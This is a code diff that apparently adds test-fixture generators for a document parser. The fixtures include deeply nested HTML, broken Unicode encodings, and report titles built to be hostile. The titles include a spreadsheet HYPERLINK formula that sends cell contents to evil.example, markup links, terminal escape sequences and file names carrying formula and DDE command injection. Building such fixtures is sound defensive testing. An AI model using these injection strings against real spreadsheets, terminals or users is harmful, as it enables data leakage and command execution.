@@ -104,10 +104,34 @@ def pdf_pages(count: int) -> bytes:
     return _pdf(objs)
 
 
+def deep_html(depth: int) -> bytes:
+    """HTML nested ``depth`` levels deep (libxml2 reads 256)."""
+    return ("<html><body>" + "<div>" * depth + "<p>某某局2023年政府信息公开工作年度报告</p><p>一、总体情况</p>"
+            + "</div>" * depth + "</body></html>").encode("utf-8")
+
+
+REPORT_TEXT = "某某局2023年政府信息公开工作年度报告\n一、总体情况\n本年度共主动公开政府信息120条。\n"
+
+
+def hostile_text(title_prefix: str) -> bytes:
+    """A short report whose title starts with ``title_prefix`` (a formula, Rich markup, ESC sequences)."""
+    return (title_prefix + REPORT_TEXT).encode("utf-8")
+
+
 GENERATORS = {
     "docx_bomb_3g.docx": lambda: docx_bomb(3 * 1024 * MiB),
     "pdf_bomb_1g.pdf": lambda: pdf_bomb(1024 * MiB),
     "pdf_2000_pages.pdf": lambda: pdf_pages(2000),
+    "deep_300.html": lambda: deep_html(300),
+    "deep_100000.html": lambda: deep_html(100_000),
+    "utf16_odd_byte.txt": lambda: REPORT_TEXT.encode("utf-16") + b"\x00",
+    "utf16_lone_surrogate.txt": lambda: b"\xff\xfe" + REPORT_TEXT.encode("utf-16-le") + b"\x00\xd8",
+    "utf8_cut_last_char.txt": lambda: REPORT_TEXT.encode("utf-8") + "政".encode()[:2],
+    "formula_title.txt": lambda: hostile_text('=HYPERLINK("http://evil.example/?d="&C2&D2,"某局")'),
+    "markup_title.txt": lambda: hostile_text("[link=http://evil.example/]点此[/link]"),
+    "escape_title.txt": lambda: hostile_text("\x1b]0;pwned\x07\x1b[2J"),
+    "=1+2.txt": lambda: b"junk",
+    "@SUM(1+1)*cmd|' C calc'!A0.txt": lambda: b"junk",
 }
 
 
